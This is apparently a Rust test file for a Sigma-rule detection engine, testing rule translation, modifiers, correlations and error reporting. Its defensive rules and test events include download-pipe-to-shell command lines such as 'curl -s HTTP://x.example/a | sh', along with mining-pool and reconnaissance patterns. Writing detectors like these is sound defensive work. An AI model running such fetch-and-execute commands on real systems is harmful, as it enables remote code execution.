//! Sigma rules written for these tests (none copied from elsewhere):
//! translation, field mapping, modifiers, correlations, and what is
//! reported unsupported.

use std::sync::Arc;

use kestrel_event::Event;

use crate::*;

fn sigma(name: &str, text: &str) -> RuleSource {
    RuleSource {
        origin: Origin::Sigma,
        name: name.into(),
        text: text.into(),
    }
}

fn ev(t: u64, pairs: &[(&'static str, &str)]) -> Event {
    let mut e = Event::with_capacity(pairs.len() + 1);
    for (k, v) in pairs {
        e.push(k, *v);
    }
    e.push("time", t.to_string());
    e
}

fn engine(text: &str) -> Engine {
    let set = compile(&[sigma("t.yml", text)]).unwrap();
    Engine::new(
        set,
        EngineConfig {
            suppress_ms: 0,
            ..Default::default()
        },
        Arc::default(),
    )
}

fn alerts(e: &mut Engine, events: &[Event]) -> Vec<Event> {
    let mut out = Vec::new();
    for x in events {
        e.process(x, &mut out);
    }
    out
}

fn exec(t: u64, exe: &str, argv: &str) -> Event {
    ev(
        t,
        &[
            ("data_type", "59"),
            ("res", "0"),
            ("exe", exe),
            ("argv", argv),
            ("tgid", "100"),
            ("user", "root"),
            ("parent_exe", "/usr/bin/bash"),
            ("ppid_argv", "bash -i"),
            ("run_path", "/tmp"),
        ],
    )
}

const PROC: &str = "
title: Shell piping a download
id: 6d1c5a1e-0000-4000-8000-000000000001
status: experimental
description: A download tool's output piped into a shell.
logsource:
  product: linux
  category: process_creation
detection:
  tool:
    Image|endswith:
    - /curl
    - /wget
  pipe:
    CommandLine|contains|all:
    - 'http'
    - '| sh'
  filter_local:
    CommandLine|contains: '127.0.0.1'
  condition: tool and pipe and not 1 of filter_*
falsepositives:
- Installers run by hand
level: high
tags:
- attack.execution
- attack.t1059.004
- attack.t1105
";

#[test]
fn a_process_creation_rule_fires_with_sysmon_fields() {
    let mut e = engine(PROC);
    let out = alerts(
        &mut e,
        &[
            exec(1, "/usr/bin/curl", "curl -s HTTP://x.example/a | sh"),
            exec(2, "/usr/bin/curl", "curl -s http://127.0.0.1/a | sh"),
            exec(3, "/usr/bin/curl", "curl -s http://x.example/a -o f"),
            exec(4, "/usr/bin/curlx", "curlx http://x | sh"),
        ],
    );
    assert_eq!(out.len(), 1, "{out:?}");
    let a = &out[0];
    assert_eq!(
        a.get("rule_id"),
        Some("6d1c5a1e-0000-4000-8000-000000000001")
    );
    assert_eq!(a.get("rule_name"), Some("Shell piping a download"));
    assert_eq!(a.get("severity"), Some("high"));
    assert_eq!(a.get("source"), Some("sigma"));
    assert_eq!(a.get("mitre_technique"), Some("T1059.004,T1105"));
    assert!(a
        .get("description")
        .unwrap()
        .contains("Known false positives: Installers run by hand."));
    // A failed exec is no process creation.
    let mut failed = exec(5, "/usr/bin/curl", "curl http://x | sh");
    failed.set("res", "-2");
    assert!(alerts(&mut e, &[failed]).is_empty());
}

#[test]
fn wildcards_case_and_modifiers() {
    let rule = |sel: &str| {
        format!(
            "title: t\nid: r1\nlogsource: {{product: linux, category: process_creation}}\n\
             detection:\n  sel:\n{sel}\n  condition: sel\nlevel: low\n"
        )
    };
    let fires = |sel: &str, exe: &str, argv: &str| {
        !alerts(&mut engine(&rule(sel)), &[exec(1, exe, argv)]).is_empty()
    };
    // Default: whole value, case-insensitive, `*` and `?` wildcards.
    assert!(fires("    Image: '/usr/bin/PY*'", "/usr/bin/python3", ""));
    assert!(!fires("    Image: '/usr/bin/py'", "/usr/bin/python3", ""));
    assert!(fires("    Image: '/bin/?h'", "/bin/sh", ""));
    assert!(!fires("    Image: '/bin/?h'", "/bin/bash", ""));
    // Regex characters in a value are literal.
    assert!(fires(
        "    CommandLine|contains: 'a.b(c'",
        "/x",
        "run a.b(c"
    ));
    assert!(!fires(
        "    CommandLine|contains: 'a.b(c'",
        "/x",
        "run axb(c"
    ));
    // cased
    assert!(!fires("    Image|cased|endswith: '/SH'", "/bin/sh", ""));
    assert!(fires("    Image|cased|endswith: '/sh'", "/bin/sh", ""));
    // re, with and without the i flag
    assert!(fires(
        "    CommandLine|re: '-o\\s+stratum'",
        "/x",
        "m -o  stratum"
    ));
    assert!(!fires("    CommandLine|re: 'STRATUM'", "/x", "stratum"));
    assert!(fires("    CommandLine|re|i: 'STRATUM'", "/x", "stratum"));
    // startswith, fieldref, exists, null
    assert!(fires("    CurrentDirectory|startswith: '/TMP'", "/x", ""));
    assert!(fires(
        "    ParentImage|fieldref: Image",
        "/usr/bin/bash",
        ""
    ));
    assert!(!fires("    ParentImage|fieldref: Image", "/usr/bin/ls", ""));
    assert!(fires("    ParentCommandLine|exists: true", "/x", ""));
    assert!(!fires("    ParentCommandLine: null", "/x", ""));
    // numbers
    assert!(fires("    ProcessId|gte: 100", "/x", ""));
    assert!(!fires("    ProcessId|gt: 100", "/x", ""));
    // base64offset: "curl" at every offset of a base64 stream.
    for plain in ["curl x", "a curl x", "ab curl x"] {
        let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, plain);
        assert!(
            fires(
                "    CommandLine|base64offset|contains: 'curl'",
                "/usr/bin/base64",
                &format!("echo {b64}")
            ),
            "{plain}"
        );
    }
}

#[test]
fn file_and_network_categories_serve_several_kinds() {
    let file = "
title: Cron file written
id: f1
logsource: {product: linux, category: file_event}
detection:
  sel:
    TargetFilename|startswith: /etc/cron
  condition: sel
level: medium
";
    let mut e = engine(file);
    for (dt, field) in [("602", "file_path"), ("608", "file"), ("82", "new_name")] {
        let x = ev(
            1,
            &[("data_type", dt), ("res", "0"), (field, "/etc/cron.d/x")],
        );
        assert_eq!(alerts(&mut e, &[x]).len(), 1, "{dt}");
    }
    // A rename's old name is not the file written.
    let x = ev(
        1,
        &[
            ("data_type", "82"),
            ("res", "0"),
            ("old_name", "/etc/cron.d/x"),
            ("new_name", "/tmp/x"),
        ],
    );
    assert!(alerts(&mut e, &[x]).is_empty());

    let net = "
title: Inbound to a high port, or out to a pool
id: n1
logsource: {product: linux, category: network_connection}
detection:
  inbound:
    Initiated: 'false'
    DestinationPort|gte: 40000
  pool:
    Initiated: 'true'
    DestinationHostname|endswith: '.pool.example'
  condition: inbound or pool
level: high
";
    let mut e = engine(net);
    let accept = ev(
        1,
        &[("data_type", "43"), ("dport", "45000"), ("dip", "10.0.0.1")],
    );
    let connect_hi = ev(1, &[("data_type", "42"), ("res", "0"), ("dport", "45000")]);
    let to_pool = ev(
        1,
        &[
            ("data_type", "42"),
            ("res", "-115"),
            ("dport", "3333"),
            ("dip_hostname", "eu.pool.example"),
        ],
    );
    let refused = ev(
        1,
        &[
            ("data_type", "42"),
            ("res", "-111"),
            ("dip_hostname", "eu.pool.example"),
        ],
    );
    assert_eq!(alerts(&mut e, &[accept]).len(), 1);
    assert!(alerts(&mut e, &[connect_hi]).is_empty());
    assert_eq!(alerts(&mut e, &[to_pool]).len(), 1);
    assert!(alerts(&mut e, &[refused]).is_empty());
}

#[test]
fn correlations_become_thresholds_and_sequences() {
    let text = "
title: Failed su
id: base-su
name: failed_su
logsource: {product: linux, category: process_creation}
detection:
  sel:
    Image|endswith: /su
  condition: sel
level: low
---
title: Many su
id: corr-count
correlation:
  type: event_count
  rules: [failed_su]
  group-by: [User]
  timespan: 1m
  condition: {gte: 3}
level: high
tags: [attack.t1110]
---
title: Whoami
id: base-whoami
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: /whoami}
  condition: sel
level: low
---
title: Id
id: base-id
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: /id}
  condition: sel
level: low
---
title: Whoami then id
id: corr-seq
correlation:
  type: temporal_ordered
  rules: [base-whoami, base-id]
  group-by: [ParentProcessId]
  timespan: 10s
  condition: {gte: 2}
  generate: true
level: medium
";
    let set = compile(&[sigma("c.yml", text)]).unwrap();
    let st = |id: &str| set.report.iter().find(|r| r.rule_id == id).unwrap().clone();
    assert_eq!(st("base-su").status, "loaded");
    assert!(
        st("base-su").reason.contains("corr-count"),
        "{:?}",
        st("base-su")
    );
    assert_eq!(st("corr-count").status, "loaded");
    let mut e = engine(text);
    let su = |t| {
        let mut x = exec(t, "/usr/bin/su", "su");
        x.push("ppid", "7");
        x
    };
    let out = alerts(&mut e, &[su(1000), su(2000)]);
    assert!(
        out.is_empty(),
        "generate: false leaves the base rule silent"
    );
    let out = alerts(&mut e, &[su(3000)]);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].get("rule_id"), Some("corr-count"));
    assert_eq!(
        out[0].get("trigger_event_ids").map(|s| s.is_empty()),
        Some(false)
    );

    let with_ppid = |t, exe: &str, ppid: &str| {
        let mut x = exec(t, exe, "");
        x.push("ppid", ppid);
        x
    };
    let out = alerts(
        &mut e,
        &[
            with_ppid(10_000, "/usr/bin/id", "9"),
            with_ppid(11_000, "/usr/bin/whoami", "9"),
            with_ppid(12_000, "/usr/bin/id", "8"),
            with_ppid(13_000, "/usr/bin/id", "9"),
        ],
    );
    let ids: Vec<_> = out.iter().filter_map(|a| a.get("rule_id")).collect();
    // generate: true: the base rules alert too; the sequence once, for ppid 9.
    assert_eq!(
        ids.iter().filter(|i| **i == "corr-seq").count(),
        1,
        "{ids:?}"
    );
    assert_eq!(ids.iter().filter(|i| **i == "base-whoami").count(), 1);
}

#[test]
fn what_cannot_be_served_is_reported_with_the_reason() {
    let text = "
title: Windows
id: u-win
logsource: {product: windows, category: process_creation}
detection: {sel: {Image|endswith: '\\cmd.exe'}, condition: sel}
---
title: Auditd
id: u-svc
logsource: {product: linux, service: auditd}
detection: {sel: {type: EXECVE}, condition: sel}
---
title: Unmapped field
id: u-field
logsource: {product: linux, category: process_creation}
detection: {sel: {OriginalFileName: x}, condition: sel}
---
title: Windash
id: u-mod
logsource: {product: linux, category: process_creation}
detection: {sel: {CommandLine|windash|contains: ' -x'}, condition: sel}
---
title: Lookahead
id: u-re
logsource: {product: linux, category: process_creation}
detection: {sel: {CommandLine|re: 'a(?=b)'}, condition: sel}
---
title: Keywords
id: u-kw
logsource: {product: linux, category: process_creation}
detection: {keywords: [evil], condition: keywords}
---
title: Two of
id: u-n
logsource: {product: linux, category: process_creation}
detection: {a: {Image: x}, b: {Image: y}, c: {Image: z}, condition: 2 of them}
---
title: Category
id: u-cat
logsource: {product: linux, category: registry_event}
detection: {sel: {Image: x}, condition: sel}
---
title: Unordered
id: u-temporal
correlation: {type: temporal, rules: [u-n], group-by: [User], timespan: 5m, condition: {gte: 2}}
---
title: Served
id: ok
logsource: {product: linux, category: network_connection}
detection: {sel: {DestinationPort: 4444}, condition: sel}
";
    let set = compile(&[sigma("u.yml", text)]).unwrap();
    let reason = |id: &str| {
        let r = set.report.iter().find(|r| r.rule_id == id).unwrap();
        assert_eq!(
            r.status,
            if id == "ok" { "loaded" } else { "unsupported" },
            "{r:?}"
        );
        r.reason.clone()
    };
    assert!(reason("u-win").contains("windows"));
    assert!(reason("u-svc").contains("auditd"));
    assert!(reason("u-field").contains("OriginalFileName"));
    assert!(reason("u-mod").contains("windash"));
    assert!(reason("u-re").contains("does not compile"));
    assert!(reason("u-kw").contains("keyword"));
    assert!(reason("u-n").contains("2 of"));
    assert!(reason("u-cat").contains("registry_event"));
    assert!(reason("u-temporal").contains("temporal"));
    assert!(reason("ok").is_empty());
    assert_eq!(set.rules.len(), 1);
    // Indexed by data_type like any rule: 42 and 43.
    assert_eq!(
        RuleSet::data_types(&set.rules[0])
            .unwrap()
            .into_iter()
            .collect::<Vec<_>>(),
        ["42", "43"]
    );
}

#[test]
fn a_file_that_does_not_parse_names_its_line() {
    let bad_yaml = "title: x\nlogsource: {product: linux\ndetection: [\n";
    let e = compile(&[sigma("bad.yml", bad_yaml)])
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("bad.yml:"), "{e}");
    // Valid YAML, not a rule: the second document lacks its detection.
    let no_detection = "title: a\nid: a\nlogsource: {product: linux, category: process_creation}\n\
                        detection: {s: {Image: x}, condition: s}\n---\ntitle: b\nlogsource: {product: linux}\n";
    let e = compile(&[sigma("two.yml", no_detection)])
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("two.yml:6:"), "{e}");
    let bad_cond = "title: a\nlogsource: {product: linux, category: process_creation}\n\
                    detection: {s: {Image: x}, condition: 's and and'}\n";
    let e = compile(&[sigma("c.yml", bad_cond)])
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("c.yml:1:"), "{e}");
}

#[test]
fn operators_exceptions_apply_to_sigma_rules() {
    let custom = RuleSource {
        origin: Origin::Custom,
        name: "site.yaml".into(),
        text: "exceptions:\n- rule: 6d1c5a1e-0000-4000-8000-000000000001\n  name: lab\n  \
               fields: [hostname]\n  values: [[lab-1]]\n"
            .into(),
    };
    let set = compile(&[custom, sigma("p.yml", PROC)]).unwrap();
    let mut e = Engine::new(
        set,
        EngineConfig {
            suppress_ms: 0,
            ..Default::default()
        },
        Arc::default(),
    );
    let mut lab = exec(1, "/usr/bin/wget", "wget -qO- http://x | sh");
    lab.push("hostname", "lab-1");
    let mut prod = exec(2, "/usr/bin/wget", "wget -qO- http://x | sh");
    prod.push("hostname", "prod-1");
    let out = alerts(&mut e, &[lab, prod]);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].get("hostname"), Some("prod-1"));
}

#[test]
fn the_docs_show_the_field_mapping() {
    let docs = include_str!("../../../docs/detections.md");
    let table = crate::sigma::mapping_table();
    assert!(
        docs.contains(&table),
        "docs/detections.md's Sigma field table is not the mapping in sigma.rs; it is:\n{table}"
    );
}

#[test]
fn a_correlation_count_past_the_largest_integer_is_unsupported_not_a_panic() {
    // Found by reading the code beside the `rules` fuzz target: `gt: n`
    // became `n + 1`, which overflowed (a panic with overflow checks, a
    // count of 0 without).
    let corr = |cond: &str| {
        format!(
            "title: base\nid: b\nname: b\nlogsource: {{product: linux, category: process_creation}}\n\
             detection: {{sel: {{Image|endswith: /su}}, condition: sel}}\nlevel: low\n---\n\
             title: corr\nid: c\ncorrelation:\n  type: event_count\n  rules: [b]\n  \
             group-by: [User]\n  timespan: 1m\n  condition: {{{cond}}}\nlevel: high\n"
        )
    };
    for cond in [
        "gt: 18446744073709551615",
        "gte: 18446744073709551615",
        "gt: 4294967295",
    ] {
        let set = compile(&[sigma("big.yml", &corr(cond))]).unwrap();
        let c = set.report.iter().find(|r| r.rule_id == "c").unwrap();
        assert_eq!(c.status, "unsupported", "{cond}: {c:?}");
        assert!(c.reason.contains("too large"), "{cond}: {c:?}");
    }
}

/// Sigma's tests (case-insensitive regexes) index their rule by their
/// own field, not by the `res` test every process_creation rule gets: the
/// rule is not run on an event whose command line cannot match, and
/// still fires on every case of the pattern.
#[test]
fn sigma_rules_are_indexed_by_their_own_field() {
    let mut e = engine(
        "title: Who
id: who-1
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|contains: whoami}
  condition: sel
level: low
",
    );
    let runs = |e: &Engine| {
        e.counters()
            .rule_evaluations
            .load(std::sync::atomic::Ordering::Relaxed)
    };
    assert!(alerts(&mut e, &[exec(1000, "/usr/bin/ls", "ls -l /tmp")]).is_empty());
    assert_eq!(runs(&e), 0, "an unrelated command line runs no rule");
    for (i, argv) in ["whoami", "sh -c WHOAMI", "WhoAmI; id"].iter().enumerate() {
        let t = 2000 + i as u64 * 1000;
        let out = alerts(&mut e, &[exec(t, "/usr/bin/x", argv)]);
        assert_eq!(out.len(), 1, "{argv}");
        assert_eq!(out[0].get("rule_id"), Some("who-1"));
    }
    assert_eq!(runs(&e), 3);
}
